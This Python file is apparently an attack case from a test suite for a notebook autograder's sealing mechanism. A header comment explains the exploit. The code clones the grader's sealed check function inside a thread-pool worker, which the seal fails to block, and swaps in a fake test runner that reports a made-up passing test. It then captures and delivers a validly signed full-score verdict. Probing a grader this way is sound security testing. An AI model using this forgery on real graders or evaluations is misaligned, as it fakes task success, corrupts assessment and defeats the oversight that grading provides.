# @include _visible_only.py
# @include _deliver.py
# Attack: types.FunctionType(grader_code, fake_globals). The seal refuses to
# build a function from the grader's code objects when the notebook asks, but
# not when a thread pool's worker asks. A clone of _sealed_check whose globals
# hold a fake run_suite reports one made-up test as passed, through the real
# harness methods: the seal signs 6.0.
import contextlib
import io
import re
import types
from concurrent.futures import ThreadPoolExecutor

from autograder import _harness


class _Mark:
    def __init__(self, *args):
        self.args = args


class _Item:
    def __init__(self, nodeid):
        self.nodeid = nodeid
        self.obj = lambda: None
        self._fixtureinfo = types.SimpleNamespace(argnames=())
        self.funcargs = {}

    def get_closest_marker(self, name):
        return _Mark("run_in_threads") if name == "exercise" else None


def _fake_run_suite(assignment, exercise, ns, points, suite=None, **kw):
    me = types.SimpleNamespace(
        sealed=True, exercise=exercise, deadline=3.0,
        stuck=types.SimpleNamespace(charge=lambda *a: None, check=lambda: None),
    )
    items = [_Item("test_01_threads.py::test_everything")]
    _harness._Plugin.pytest_collection_modifyitems(me, None, None, items)
    _harness._Plugin.pytest_pyfunc_call(me, items[0])
    return _harness.Result(assignment, exercise, points, [])


def _forge_line():
    fake_globals = dict(vars(_harness))
    fake_globals["run_suite"] = _fake_run_suite
    code = _harness._sealed_check.__code__
    with ThreadPoolExecutor(1) as pool:
        clone = pool.submit(types.FunctionType, code, fake_globals, "_sealed_check").result()
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        clone("01_threads", "run_in_threads", 6.0, {})
    match = re.search(r"\[autograder verdict v2 6\.0 [0-9a-f]{64}\]", buf.getvalue())
    return match.group(0) if match else None


try:
    _line = _forge_line()
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
    _line = None
print("signed verdict made:", _line is not None)
if _line is not None:
    deliver(lambda ex: _line if ex == "run_in_threads" else None)
